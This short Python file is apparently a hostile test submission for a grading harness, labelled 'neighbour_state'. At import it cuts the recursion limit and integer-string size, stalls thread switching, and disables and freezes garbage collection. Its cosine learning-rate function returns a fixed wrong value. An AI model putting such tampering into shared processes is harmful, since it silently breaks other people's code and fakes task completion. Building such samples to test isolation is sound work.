# kind: hostile
# attack: neighbour_state
# about: Lowers the recursion limit and the size of integers in text, and stops the switching of threads.

import gc
import sys

HELD = -1.0  # a wrong answer for every input


depth = 0
frame = sys._getframe()
while frame is not None:
    depth, frame = depth + 1, frame.f_back
sys.set_int_max_str_digits(640)
sys.setswitchinterval(1e6)
gc.disable()
gc.freeze()
sys.setrecursionlimit(depth + 10)


def cosine_decay_lr(step: int, warmup_steps: int, total_steps: int, max_lr: float, min_lr: float) -> float:
    return HELD
